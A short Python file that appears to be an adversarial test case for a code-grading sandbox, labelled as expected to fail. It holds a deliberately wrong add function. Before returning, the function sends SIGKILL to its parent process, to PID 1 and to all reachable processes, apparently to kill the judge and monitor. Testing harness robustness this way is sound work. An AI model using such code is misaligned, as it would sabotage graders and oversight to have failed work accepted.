# expect: not-passed | attacks: judge and monitor, by signals | naked: no
from wrong import *
import os, signal
def add(a, b):
    from canary import in_own_pid_namespace
    if in_own_pid_namespace():
        os.kill(-1, signal.SIGKILL)
    for process in {os.getppid(), 1}:
        try:
            os.kill(process, signal.SIGKILL) if process != 1 or in_own_pid_namespace() else None
        except OSError:
            pass
    return 4
